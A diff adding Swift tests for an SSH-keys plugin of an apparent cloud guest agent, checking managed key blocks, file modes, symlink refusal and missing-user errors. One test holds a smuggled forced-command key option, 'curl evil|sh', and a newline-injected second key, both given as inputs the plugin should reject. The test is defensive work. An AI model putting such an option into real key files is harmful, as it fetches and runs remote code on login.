@@ -1,0 +1,89 @@
+import DataSources
+import Foundation
+import Plugins
+import TestSupport
+import Testing
+
+@Suite struct SSHKeysPluginTests {
+    let rsa = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7 demo-key"
+    let ed = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB0m other"
+
+    @Test func installsKeysWithModesAndOwnerKeepingUserLines() async throws {
+        let root = try PluginTestContext.makeRoot()
+        try root.write("# my own\nssh-ed25519 AAAAC3Nza mine@laptop\n", to: "home/cloud-user/.ssh/authorized_keys", mode: 0o644)
+        let metadata = PluginTestContext.sampleMetadata(keys: [PublicKeyEntry(name: "a", line: rsa + "\n"), PublicKeyEntry(name: "b", line: ed)])
+        let plugin = SSHKeysPlugin()
+        #expect(try await plugin.apply(PluginTestContext.context(metadata, root: root)) == .done)
+        let text = try #require(root.read("home/cloud-user/.ssh/authorized_keys"))
+        #expect(text == """
+        # my own
+        ssh-ed25519 AAAAC3Nza mine@laptop
+        # BEGIN guest-agent managed keys
+        \(rsa)
+        \(ed)
+        # END guest-agent managed keys
+
+        """)
+        let file = try root.attributes("home/cloud-user/.ssh/authorized_keys")
+        let directory = try root.attributes("home/cloud-user/.ssh")
+        #expect(file.mode == 0o600 && file.uid == 1000 && file.gid == 1000)
+        #expect(directory.mode == 0o700 && directory.uid == 1000)
+
+        // Second run with one key removed: only the managed block changes.
+        let fewer = PluginTestContext.sampleMetadata(keys: [PublicKeyEntry(name: "b", line: ed)])
+        _ = try await plugin.apply(PluginTestContext.context(fewer, root: root))
+        let after = try #require(root.read("home/cloud-user/.ssh/authorized_keys"))
+        #expect(after.hasPrefix("# my own\nssh-ed25519 AAAAC3Nza mine@laptop\n# BEGIN"))
+        #expect(!after.contains(rsa))
+        #expect(after.components(separatedBy: "# BEGIN guest-agent").count == 2)
+    }
+
+    @Test func adminUsernameFromMetadataWinsAndRootIsOptional() async throws {
+        let root = try PluginTestContext.makeRoot(users: ["cloud-user", "ops"])
+        var metadata = PluginTestContext.sampleMetadata(keys: [PublicKeyEntry(name: "a", line: rsa)])
+        metadata.meta["admin_username"] = "ops"
+        var config = AgentConfig()
+        config.sshKeysForRoot = true
+        _ = try await SSHKeysPlugin().apply(PluginTestContext.context(metadata, root: root, config: config))
+        #expect(root.read("home/ops/.ssh/authorized_keys")?.contains(rsa) == true)
+        #expect(root.read("root/.ssh/authorized_keys")?.contains(rsa) == true)
+        #expect(root.read("home/cloud-user/.ssh/authorized_keys") == nil)
+    }
+
+    @Test func refusesSmuggledOptionsAndNewlines() async throws {
+        let root = try PluginTestContext.makeRoot()
+        let metadata = PluginTestContext.sampleMetadata(keys: [
+            PublicKeyEntry(name: "forced", line: "command=\"curl evil|sh\" ssh-rsa AAAAB3Nza x"),
+            PublicKeyEntry(name: "two-lines", line: "ssh-rsa AAAAB3Nza x\rssh-rsa AAAAB3Nzb y"),
+            PublicKeyEntry(name: "good", line: ed),
+        ])
+        _ = try await SSHKeysPlugin().apply(PluginTestContext.context(metadata, root: root))
+        let text = try #require(root.read("home/cloud-user/.ssh/authorized_keys"))
+        #expect(!text.contains("curl"))
+        #expect(!text.contains("AAAAB3Nzb"))
+        #expect(text.contains(ed))
+    }
+
+    @Test func missingUserIsANamedError() async throws {
+        let root = try PluginTestContext.makeRoot(users: [])
+        let metadata = PluginTestContext.sampleMetadata(keys: [PublicKeyEntry(name: "a", line: rsa)])
+        await #expect { try await SSHKeysPlugin().apply(PluginTestContext.context(metadata, root: root)) } throws: {
+            "\($0)" == "user 'cloud-user' does not exist in \(root.path)/etc/passwd (enable the users plugin or set 'username')"
+        }
+    }
+
+    @Test func refusesToWriteThroughASymlinkedSSHDirectory() async throws {
+        let root = try PluginTestContext.makeRoot()
+        let outside = try TemporaryDirectory()
+        try FileManager.default.createSymbolicLink(atPath: root.path + "/home/cloud-user/.ssh", withDestinationPath: outside.path)
+        let metadata = PluginTestContext.sampleMetadata(keys: [PublicKeyEntry(name: "a", line: rsa)])
+        await #expect(throws: HostError.self) { try await SSHKeysPlugin().apply(PluginTestContext.context(metadata, root: root)) }
+        #expect(try FileManager.default.contentsOfDirectory(atPath: outside.path).isEmpty)
+    }
+
+    @Test func skipsWithoutKeys() async throws {
+        let root = try PluginTestContext.makeRoot()
+        let context = PluginTestContext.context(PluginTestContext.sampleMetadata(keys: []), root: root)
+        #expect(try await SSHKeysPlugin().plan(context) == .skip("metadata has no SSH keys"))
+    }
+}
